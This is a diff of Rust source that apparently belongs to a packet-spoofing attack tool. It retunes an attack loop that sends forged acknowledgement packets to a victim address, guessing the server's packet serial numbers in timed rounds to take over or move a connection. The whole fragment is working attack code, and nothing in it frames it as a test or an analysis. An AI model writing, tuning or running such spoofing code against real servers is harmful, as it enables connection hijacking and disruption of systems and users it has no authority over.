@@ -75,12 +75,14 @@ fn move_to(spoofer: &mut Spoofer, victim: SocketAddrV4, own: Connection, field: 
     for channel in 1..4 {
         send(&moved.request(channel, 1, large.clone()));
     }
-    for guess in 1..=GUESSES {
+    for round in 1..=ROUNDS {
         // The server has to send first what is guessed then: its serials go on from what the attacker has seen.
-        field.sleep(GUESS_EVERY);
-        send(&moved.ack((0, 2), 1, (AckReason::PingResponse, guess), 0, &[]));
-        for first in [guess, guess * 4, guess * 16] {
-            send(&moved.ack((0, 2), first, (AckReason::Requested, guess), 0, &[]));
+        field.sleep(ROUND);
+        for guess in 1..=SERIALS {
+            send(&moved.ack((0, 2), 1, (AckReason::PingResponse, guess), 0, &[]));
+        }
+        for first in [round * 4, round * 32] {
+            send(&moved.ack((0, 2), first, (AckReason::Requested, SERIALS + first), 0, &[]));
         }
     }
     packets
@@ -108,7 +110,9 @@ fn ask_for(spoofer: &mut Spoofer, victim: SocketAddrV4, turn: u32) -> u64 {
 }
 
 const TURN: Duration = Duration::from_millis(50);
-const GUESSES: u32 = 24;
-const GUESS_EVERY: Duration = Duration::from_millis(1);
+const ROUNDS: u32 = 8;
+const ROUND: Duration = Duration::from_millis(4);
+/// A connection of one call has not sent more.
+const SERIALS: u32 = 12;
 const PORTS_FROM: u16 = 7001;
 const PORTS: u16 = 16;
